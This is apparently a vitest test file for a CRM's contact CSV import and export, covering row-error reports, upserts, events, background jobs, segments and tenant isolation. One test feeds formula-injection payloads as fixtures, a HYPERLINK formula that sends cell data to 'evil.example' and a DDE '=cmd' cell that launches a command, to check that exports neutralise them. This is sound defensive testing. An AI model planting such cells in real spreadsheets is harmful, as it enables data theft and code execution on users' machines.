// CSV import and export: bad rows are reported with their row numbers while the rest import;
// upserts by email keep what the file does not mention; events, progress, segments and
// tenants come out right.
import { Readable } from 'node:stream';
import { newId, unwrap } from '@mauntic/kernel';
import { parse } from 'csv-parse/sync';
import { and, eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { ContactImportRow } from '../src/app/import-contacts.ts';
import { contacts, importChunks, segmentMembers } from '../src/db/schema.ts';
import { DATABASES, newOrg, openCrm } from './harness.ts';

type Ctx = ReturnType<typeof newOrg>;

describe.each(DATABASES)('contact import and export (%s)', (_name, open) => {
  let crm: Awaited<ReturnType<typeof openCrm>>;
  beforeAll(async () => {
    crm = await openCrm(open);
  });
  afterAll(() => crm?.close());

  const withFields = async (ctx: Ctx) => {
    const s = crm.services;
    unwrap(
      await s.createField(ctx, {
        entity: 'contact',
        key: 'plan',
        label: 'Plan',
        type: 'select',
        choices: ['free', 'pro'],
      }),
    );
    unwrap(await s.createField(ctx, { entity: 'contact', key: 'revenue', label: 'Revenue', type: 'number' }));
    unwrap(await s.createField(ctx, { entity: 'contact', key: 'signup', label: 'Signup', type: 'date' }));
  };
  const importCsv = async (ctx: Ctx, csv: string, mapping: Record<string, string>, extra = {}) =>
    unwrap(
      await crm.services.importContacts(ctx, {
        importId: newId(),
        source: Readable.from([Buffer.from(csv)]),
        mapping,
        ...extra,
      }),
    );
  const contactsOf = (ctx: Ctx) =>
    crm.handle.db.select().from(contacts).where(eq(contacts.organizationId, ctx.organizationId));
  const eventCounts = async (ctx: Ctx) => {
    const rows = await crm.handle.rows<{ type: string; n: number }>(
      sql`select type, count(*)::int as n from crm.outbox where organization_id = ${ctx.organizationId} group by type`,
    );
    return Object.fromEntries(rows.map((r) => [r.type, r.n]));
  };
  /** An import's progress and finish events, in the order they were written. */
  const importEvents = async (importId: string) => {
    const rows = await crm.handle.rows<{ type: string; envelope: { data: Record<string, unknown> } | string }>(
      sql`select type, envelope from crm.outbox where key = ${importId} order by seq`,
    );
    return rows.map((r) => ({
      type: r.type,
      ...(typeof r.envelope === 'string' ? JSON.parse(r.envelope) : r.envelope).data,
    }));
  };
  const MAPPING = {
    email: 'email',
    first: 'firstName',
    last: 'lastName',
    plan: 'fields.plan',
    revenue: 'fields.revenue',
    signup: 'fields.signup',
  };

  it('reports malformed rows with their row numbers and imports the rest', async () => {
    const ctx = newOrg();
    await withFields(ctx);
    const huge = 'x'.repeat(5 * 1024 * 1024);
    const csv = [
      '\uFEFFemail,first,last,plan,revenue,signup,notes',
      'ann@example.com,"Ann, ""the"" first\nof her name",Smith,pro,10,2024-01-02,ignored',
      'not-an-email,Bob,Jones,free,1,2024-01-02,',
      'carl@example.com,Carl,Stone,free,lots,2024-01-02,',
      'dora@example.com,Dora,Lane,free,5,2024-13-45,',
      'eve@example.com,Eve,Hall,gold,5,2024-01-02,',
      'fay@example.com,Fay',
      `gus@example.com,Gus,Reed,pro,1,2024-01-02,${huge}`,
      'hal@example.com,Hal,Ward,,,,',
      'ANN@example.com,,Smythe,,,,',
      '',
    ].join('\n');
    const summary = await importCsv(ctx, csv, MAPPING, { batchSize: 3 });
    expect(summary).toMatchObject({ status: 'completed', rowsDone: 3, rowsFailed: 6, rowsCreated: 2, rowsUpdated: 1 });
    // Each batch published the totals so far (batches of 3 rows, valid or not), then the end.
    const events = await importEvents(summary.importId);
    const progressed = events.filter((e) => e.type === 'crm.import.progressed');
    expect(progressed.length).toBeGreaterThanOrEqual(3);
    const seen = progressed.map((e) => (e.rowsDone as number) + (e.rowsFailed as number));
    expect(seen).toEqual([...seen].sort((a, b) => a - b));
    expect(seen.at(-1)).toBe(9);
    expect(events.at(-1)).toEqual({
      type: 'crm.import.finished',
      status: 'completed',
      error: null,
      rowsDone: 3,
      rowsFailed: 6,
      rowsCreated: 2,
      rowsUpdated: 1,
    });

    const report = await crm.services.importErrors(ctx.organizationId, summary.importId, 0, 100);
    expect(report.map((e) => e.rowNumber)).toEqual([2, 3, 4, 5, 6, 7]);
    expect(report[0]!.messages.join()).toMatch(/email: email must be an email address/);
    expect(report[1]!.messages.join()).toMatch(/revenue: fields.revenue must be a number/);
    expect(report[2]!.messages.join()).toMatch(/signup: fields.signup must be a date/);
    expect(report[3]!.messages.join()).toMatch(/plan: fields.plan must be one of: free, pro/);
    expect(report[4]!.messages.join()).toMatch(/as many fields as the header/);
    expect(report[4]!.raw).toBe('fay@example.com,Fay');
    expect(report[5]!.messages.join()).toMatch(/larger than 1 MB/);
    expect(report[5]!.raw.length).toBeLessThan(20_000);

    const rows = await contactsOf(ctx);
    const byEmail = new Map(rows.map((r) => [r.email!.toLowerCase(), r]));
    expect([...byEmail.keys()].sort()).toEqual(['ann@example.com', 'hal@example.com']);
    // The quoted field kept its comma, quotes and newline; the later row for Ann changed only
    // what it gave (an empty cell leaves the value), and the stored spelling of the email stays.
    const ann = byEmail.get('ann@example.com')!;
    expect(ann).toMatchObject({
      email: 'ann@example.com',
      firstName: 'Ann, "the" first\nof her name',
      lastName: 'Smythe',
      fields: { plan: 'pro', revenue: 10, signup: '2024-01-02' },
    });
    expect(byEmail.get('hal@example.com')!.fields).toEqual({});
  });

  it('numbers rows after a record that is not valid CSV as they are in the file', async () => {
    const ctx = newOrg();
    const csv = [
      'email,first',
      'amy@example.com,Amy',
      'ben@example.com,B"en',
      'not-an-email,Cy',
      '',
      'dee@example.com,Dee',
      'ed@example.com,E"d',
      'fi@example.com,Fi,extra',
    ].join('\n');
    const summary = await importCsv(ctx, csv, { email: 'email', first: 'firstName' }, { batchSize: 2 });
    expect(summary).toMatchObject({ status: 'completed', rowsDone: 2, rowsFailed: 4 });
    const report = await crm.services.importErrors(ctx.organizationId, summary.importId, 0, 100);
    expect(report.map((e) => [e.rowNumber, e.messages.join()])).toEqual([
      [2, expect.stringMatching(/quote/i)],
      [3, expect.stringMatching(/email must be an email address/)],
      [5, expect.stringMatching(/quote/i)],
      [6, expect.stringMatching(/as many fields as the header/)],
    ]);
    expect(report[3]!.raw).toBe('fi@example.com,Fi,extra');
    expect((await contactsOf(ctx)).map((c) => c.firstName).sort()).toEqual(['Amy', 'Dee']);
  });

  it('refuses a mapping to an unknown field or without an email column', async () => {
    const ctx = newOrg();
    await withFields(ctx);
    const unknown = await crm.services.startContactImport(ctx, {
      csv: 'email,x\na@example.com,1\n',
      mapping: { email: 'email', x: 'fields.nosuch' },
    });
    expect(unknown.ok).toBe(false);
    if (!unknown.ok) expect(unknown.error.message).toMatch(/input\.mapping\.x: fields\.nosuch is not a contact field/);
    const noEmail = await crm.services.startContactImport(ctx, {
      csv: 'first\nAnn\n',
      mapping: { first: 'firstName' },
    });
    expect(noEmail.ok).toBe(false);
    if (!noEmail.ok) expect(noEmail.error.message).toMatch(/one column must map to email/);
    const engine = await crm.services.importContacts(ctx, {
      importId: newId(),
      source: Readable.from(['email,x\na@example.com,1\n']),
      mapping: { email: 'email', x: 'fields.nosuch' },
    });
    expect(engine.ok).toBe(false);
    expect(await contactsOf(ctx)).toHaveLength(0);
  });

  it('upserts by email: updates existing contacts, keeps unmapped values, adds tags, writes events', async () => {
    const ctx = newOrg();
    await withFields(ctx);
    const s = crm.services;
    const existing = unwrap(
      await s.createContact(ctx, {
        email: 'Kim@Example.com',
        firstName: 'Kim',
        phone: '+33612345678',
        tags: ['old'],
        fields: { plan: 'pro', revenue: 7 },
      }),
    );
    const csv = 'email,last,revenue\nkim@example.com,Kay,99\nnew@example.com,New,1\nnew2@example.com,,\n';
    const summary = await importCsv(
      ctx,
      csv,
      { email: 'email', last: 'lastName', revenue: 'fields.revenue' },
      { tags: ['Imported', 'old'] },
    );
    expect(summary).toMatchObject({ status: 'completed', rowsDone: 3, rowsCreated: 2, rowsUpdated: 1 });
    const [kim] = await crm.handle.db.select().from(contacts).where(eq(contacts.id, existing.id));
    expect(kim).toMatchObject({
      email: 'Kim@Example.com',
      firstName: 'Kim',
      lastName: 'Kay',
      phone: '+33612345678',
      tags: ['imported', 'old'],
      fields: { plan: 'pro', revenue: 99 },
    });
    const created = (await contactsOf(ctx)).filter((c) => c.id !== existing.id);
    expect(created.map((c) => c.tags)).toEqual([
      ['imported', 'old'],
      ['imported', 'old'],
    ]);
    // One created event per new contact (plus the one createContact wrote), one updated.
    expect(await eventCounts(ctx)).toMatchObject({ 'crm.contact.created': 3, 'crm.contact.updated': 1 });
    const [updated] = await crm.handle.rows<{
      envelope: { data: { changed: string[]; contact: { lastName: string } } };
    }>(
      sql`select envelope from crm.outbox where organization_id = ${ctx.organizationId} and type = 'crm.contact.updated'`,
    );
    expect(updated!.envelope.data.contact.lastName).toBe('Kay');
    expect(updated!.envelope.data.changed.sort()).toEqual(['fields.revenue', 'lastName', 'tags']);
  });

  it("records the stage moves an import's rows make in the stage history, with their events", async () => {
    const ctx = newOrg();
    const s = crm.services;
    const [lead, customer] = [
      unwrap(await s.createStage(ctx, { name: 'Lead', position: 1 })),
      unwrap(await s.createStage(ctx, { name: 'Customer', position: 2 })),
    ];
    const kim = unwrap(await s.createContact(ctx, { email: 'kim@example.com', stageId: lead.id }));
    const lee = unwrap(await s.createContact(ctx, { email: 'lee@example.com', stageId: lead.id }));
    // Kim moves on, Lee stays (the same stage, and an empty cell keeps it), a new contact starts as a lead.
    const csv = `email,stage\nkim@example.com,${customer.id}\nlee@example.com,${lead.id}\nnew@example.com,${lead.id}\n`;
    const summary = await importCsv(ctx, csv, { email: 'email', stage: 'stageId' });
    expect(summary).toMatchObject({ status: 'completed', rowsDone: 3 });
    const moves = await crm.handle.rows<{ email: string; from: string | null; to: string; reason: string }>(sql`
      select c.email, h.from_stage_id as "from", h.to_stage_id as "to", h.reason
      from crm.stage_changes h join crm.contacts c on c.id = h.contact_id
      where h.organization_id = ${ctx.organizationId} and h.reason = 'import' order by c.email`);
    expect(moves).toEqual([
      { email: 'kim@example.com', from: lead.id, to: customer.id, reason: 'import' },
      { email: 'new@example.com', from: null, to: lead.id, reason: 'import' },
    ]);
    const events = await crm.handle.rows<{ envelope: { subject: { id: string }; data: unknown } }>(sql`
      select envelope from crm.outbox where organization_id = ${ctx.organizationId}
        and type = 'crm.contact.stage-changed' and envelope::jsonb #>> '{data,reason}' = 'import'`);
    const envelopeOf = (e: { envelope: unknown }) =>
      (typeof e.envelope === 'string' ? JSON.parse(e.envelope) : e.envelope) as {
        subject: { id: string };
        data: unknown;
      };
    expect(events.map(envelopeOf).find((e) => e.subject.id === kim.id)?.data).toEqual({
      fromStageId: lead.id,
      toStageId: customer.id,
      reason: 'import',
    });
    expect(events).toHaveLength(2);
    expect(events.map(envelopeOf).some((e) => e.subject.id === lee.id)).toBe(false);
  });

  it('runs as a background job from stored chunks, and its progress reaches completed with exact counts', async () => {
    const ctx = newOrg();
    await withFields(ctx);
    const lines = ['email,first,plan'];
    for (let i = 0; i < 250; i++) lines.push(`user${i}@example.com,User ${i},${i % 10 === 0 ? 'bad' : 'pro'}`);
    const started = unwrap(
      await crm.services.startContactImport(ctx, {
        csv: `${lines.join('\n')}\n`,
        mapping: MAPPING_SUBSET,
        tags: ['csv'],
      }),
    );
    expect(started.status).toBe('queued');
    let row: ContactImportRow | null = started;
    for (let i = 0; i < 200 && row?.status !== 'completed' && row?.status !== 'failed'; i++) {
      await new Promise((r) => setTimeout(r, 50));
      row = unwrap(await crm.services.getContactImport(ctx, started.id));
    }
    expect(row).toMatchObject({ status: 'completed', rowsDone: 225, rowsFailed: 25, rowsCreated: 225 });
    expect(row!.bytesRead).toBe(row!.totalBytes);
    expect(row!.finishedAt).toBeInstanceOf(Date);
    const events = await importEvents(started.id);
    expect(events.at(-2)).toMatchObject({ type: 'crm.import.progressed', rowsDone: 225, rowsFailed: 25, percent: 100 });
    expect(events.at(-1)).toMatchObject({ type: 'crm.import.finished', status: 'completed', rowsDone: 225 });
    // The job deletes the stored chunks once the import has committed its completion.
    await vi.waitFor(
      async () =>
        expect(await crm.handle.db.select().from(importChunks).where(eq(importChunks.importId, started.id))).toEqual(
          [],
        ),
      { timeout: 5_000, interval: 50 },
    );
    const report = parse(await crm.services.importErrorReportCsv(ctx.organizationId, started.id), { columns: true });
    expect(report).toHaveLength(25);
    expect(report[0]).toMatchObject({ row: '1', raw: 'user0@example.com,User 0,bad' });
    // Another organization cannot see it.
    expect(unwrap(await crm.services.getContactImport(newOrg(), started.id))).toBeNull();
  });
  const MAPPING_SUBSET = { email: 'email', first: 'firstName', plan: 'fields.plan' };

  it('leaves dynamic segment membership right after an import', async () => {
    const ctx = newOrg();
    await withFields(ctx);
    const s = crm.services;
    const pro = unwrap(
      await s.createSegment(ctx, { name: 'pro', filter: { field: 'fields.plan', op: 'eq', value: 'pro' } }),
    );
    const before = unwrap(await s.createContact(ctx, { email: 'was-pro@example.com', fields: { plan: 'pro' } }));
    unwrap(await s.rebuildSegment(ctx, pro.id));
    const csv = 'email,plan\nwas-pro@example.com,free\na@example.com,pro\nb@example.com,pro\nc@example.com,free\n';
    await importCsv(ctx, csv, { email: 'email', plan: 'fields.plan' }, { batchSize: 2 });
    const members = await crm.handle.db
      .select({ email: contacts.email })
      .from(segmentMembers)
      .innerJoin(contacts, eq(contacts.id, segmentMembers.contactId))
      .where(and(eq(segmentMembers.segmentId, pro.id), eq(segmentMembers.organizationId, ctx.organizationId)));
    expect(members.map((m) => m.email).sort()).toEqual(['a@example.com', 'b@example.com']);
    expect(unwrap(await s.getSegment(ctx, pro.id))!.memberCount).toBe(2);
    expect(await eventCounts(ctx)).toMatchObject({ 'crm.segment.entered': 3, 'crm.segment.exited': 1 });
    expect(before.id).toBeTruthy();
  });

  it("never touches another organization's contacts with the same email", async () => {
    const a = newOrg();
    const b = newOrg();
    const theirs = unwrap(await crm.services.createContact(a, { email: 'same@example.com', firstName: 'A' }));
    const summary = await importCsv(b, 'email,first\nsame@example.com,B\n', { email: 'email', first: 'firstName' });
    expect(summary).toMatchObject({ rowsCreated: 1, rowsUpdated: 0 });
    const [still] = await crm.handle.db.select().from(contacts).where(eq(contacts.id, theirs.id));
    expect(still!.firstName).toBe('A');
    expect((await contactsOf(b)).map((c) => [c.email, c.firstName])).toEqual([['same@example.com', 'B']]);
    expect(await eventCounts(a)).toEqual({ 'crm.contact.created': 1 });
  });

  it('writes no cell a spreadsheet would run as a formula, in exports and in the error report', async () => {
    const ctx = newOrg();
    await withFields(ctx);
    const csv = [
      'email,first,last,revenue',
      'f@example.com,"=HYPERLINK(""http://evil.example/?""&A1)",@SUM(1+1),-12',
      "\t=cmd|' /C calc'!A0,x,y,1",
      '+not-an-email,x,y,1',
    ].join('\n');
    const summary = await importCsv(ctx, csv, {
      email: 'email',
      first: 'firstName',
      last: 'lastName',
      revenue: 'fields.revenue',
    });
    expect(summary).toMatchObject({ rowsDone: 1, rowsFailed: 2 });
    unwrap(await crm.services.tagContact(ctx, { contactId: (await contactsOf(ctx))[0]!.id, add: ['-minus'] }));

    const [exported] = parse(unwrap(await crm.services.exportContacts(ctx)), { columns: true }) as Record<
      string,
      string
    >[];
    expect(exported).toMatchObject({
      firstName: `'=HYPERLINK("http://evil.example/?"&A1)`,
      lastName: "'@SUM(1+1)",
      tags: "'-minus",
      // A plain number is no formula.
      revenue: '-12',
    });

    const report = parse(await crm.services.importErrorReportCsv(ctx.organizationId, summary.importId), {
      columns: true,
    }) as Record<string, string>[];
    expect(report.map((r) => r.raw)).toEqual(["'\t=cmd|' /C calc'!A0,x,y,1", "'+not-an-email,x,y,1"]);
  });

  it('exports exactly the contacts matching a filter as parseable CSV', async () => {
    const ctx = newOrg();
    await withFields(ctx);
    const csv = [
      'email,first,last,plan,revenue',
      'p1@example.com,"Pro, One","O""Neil",pro,100',
      'p2@example.com,Pro2,Two,pro,5',
      'f1@example.com,Free1,One,free,100',
      'x@example.com,Nobody,,,',
    ].join('\n');
    await importCsv(
      ctx,
      csv,
      { email: 'email', first: 'firstName', last: 'lastName', plan: 'fields.plan', revenue: 'fields.revenue' },
      { tags: ['a', 'b'] },
    );
    // Someone else's pro contact must not leak in.
    const other = newOrg();
    await withFields(other);
    await importCsv(other, 'email,plan\nleak@example.com,pro\n', { email: 'email', plan: 'fields.plan' });

    const text = unwrap(await crm.services.exportContacts(ctx, { field: 'fields.plan', op: 'eq', value: 'pro' }));
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual([
      'id',
      'email',
      'firstName',
      'lastName',
      'phone',
      'timezone',
      'locale',
      'points',
      'tags',
      'createdAt',
      'plan',
      'revenue',
      'signup',
    ]);
    expect(rows.map((r) => r.email).sort()).toEqual(['p1@example.com', 'p2@example.com']);
    const p1 = rows.find((r) => r.email === 'p1@example.com')!;
    expect(p1).toMatchObject({
      firstName: 'Pro, One',
      lastName: 'O"Neil',
      tags: 'a|b',
      plan: 'pro',
      revenue: '100',
      signup: '',
    });
    expect(Number.isNaN(Date.parse(p1.createdAt!))).toBe(false);

    const all = parse(unwrap(await crm.services.exportContacts(ctx)), { columns: true });
    expect(all).toHaveLength(4);
    const bad = await crm.services.exportContacts(ctx, { field: 'fields.nosuch', op: 'eq', value: 1 });
    expect(bad.ok).toBe(false);
  });
});
